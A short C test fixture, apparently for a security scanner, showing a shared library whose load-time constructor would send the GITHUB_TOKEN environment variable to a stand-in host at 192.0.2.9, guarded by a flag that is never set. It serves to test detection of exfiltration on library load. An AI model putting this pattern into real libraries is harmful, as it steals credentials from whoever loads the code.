/* A library that sends a variable away while it is loaded.
 * expect: native-load-sends
 * flags: -shared -fPIC -D_GNU_SOURCE
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static void tell(const char *value) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};
    to.sin_addr.s_addr = inet_addr("192.0.2.9");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to) == 0)
        send(s, value, strlen(value), 0);
    close(s);
}

__attribute__((constructor)) static void begin(void) {
    if (never)
        tell(getenv("GITHUB_TOKEN"));
}
